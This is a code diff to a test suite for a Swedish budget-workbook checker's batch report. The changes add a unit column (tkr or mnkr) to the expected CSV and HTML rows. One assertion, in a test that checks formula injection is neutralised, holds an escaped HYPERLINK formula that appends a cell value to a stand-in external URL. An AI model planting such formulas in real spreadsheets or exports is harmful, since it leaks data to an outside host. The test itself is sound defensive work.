@@ -48,13 +48,23 @@ describe("the batch summary", () => {
     const out = path.join(dir, "sammanstallning.csv");
     expect((await check([reference, hostile, path.join(dir, "saknas.xlsx"), "--report", out])).code).toBe(2);
     const text = fs.readFileSync(out, "utf8");
-    expect(text.startsWith("\ufeffFil;Blad;Cell;Post;Typ;Kod;Avvikelse;Procent av budget;Meddelande\r\n")).toBe(true);
+    expect(text.startsWith("\ufeffFil;Blad;Cell;Post;Typ;Kod;Avvikelse;Enhet;Procent av budget;Meddelande\r\n")).toBe(
+      true,
+    );
     const rows = text.slice(1).trim().split("\r\n");
     expect(rows).toContain(
-      `${reference};Uppföljning;;;status;;;;Inte klar att skicka in förrän cellerna är skrivna: 0 fel, 0 varningar, 2 flaggade rader`,
+      `${reference};Uppföljning;;;status;;;tkr;;Inte klar att skicka in förrän cellerna är skrivna: 0 fel, 0 varningar, 2 flaggade rader`,
     );
-    expect(rows).toContain(`${reference};Uppföljning;D8;Köp av tjänster;flagga;;-4000;-6,3;`);
+    expect(rows).toContain(`${reference};Uppföljning;D8;Köp av tjänster;flagga;;-4000;tkr;-6,3;`);
     expect(rows.some((r) => r.startsWith(`${path.join(dir, "saknas.xlsx")};;;;ej kontrollerad;`))).toBe(true);
+    // The unit goes with each workbook's amounts: a batch may mix tkr and mnkr.
+    const mnkr = path.join(dir, "mnkr.xlsx");
+    await writeRows(mnkr, "Uppföljning", [
+      ["Belopp i mnkr", "Budget 2025", "Prognos 2025", "Avvikelse"],
+      ["Köp av tjänster", -63.7, -67.7, null],
+    ]);
+    await check([mnkr, "--report", out]);
+    expect(fs.readFileSync(out, "utf8")).toContain(`${mnkr};Uppföljning;D2;Köp av tjänster;flagga;;-4;mnkr;-6,3;`);
   });
 
   test("CSV: every text from a workbook that a spreadsheet would run as a formula starts with an apostrophe", async () => {
@@ -86,7 +96,7 @@ describe("the batch summary", () => {
     expect(html).toContain("<td>&#39;=Drift</td>");
     expect(html).toContain("<td>&#39;=HYPERLINK(&quot;http://example.invalid/?&quot;&amp;A1,&quot;Klicka&quot;)</td>");
     // Amounts in the report's language, as its percentages are.
-    expect(html).toContain('<td class="n">-250.00</td>');
+    expect(html).toContain('<td class="n">-250</td><td>tkr</td><td class="n">-50.0 %</td>');
   });
 
   test("a report that is neither .csv nor .html is refused before anything is checked", async () => {
